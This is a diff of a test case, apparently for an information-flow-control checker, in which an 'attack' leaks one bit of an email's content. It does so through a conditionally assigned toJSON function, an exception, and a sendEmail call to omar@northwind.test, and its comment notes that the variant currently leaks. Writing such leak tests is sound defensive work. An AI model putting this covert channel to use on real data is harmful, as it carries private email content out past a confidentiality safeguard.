@@ -1,11 +1,15 @@
-// attack: give an object a toJSON function only in a labeled branch; JSON.stringify refuses it, the catch sends
-// normal: blocked (the function is created under m1's context, so it and the refusal carry m1)
+// attack: give an object a toJSON function only in a labeled branch (through a variable); storing a function in
+// data is refused at run time, and the catch sends
+// normal: leaks (implicit flow: the function itself was created outside the branch)
 const m = await getEmail('m1');
-const o = { a: 1 };
+const f = () => 1;
+let g = 0;
 if (m.body.includes('zed')) {
-  o.toJSON = () => 1;
+  g = f;
 }
+const o = { a: 1 };
 try {
+  o.toJSON = g;
   JSON.stringify(o);
 } catch (e) {
   await sendEmail({ to: ['omar@northwind.test'], subject: 'bit', body: 'tojson' });
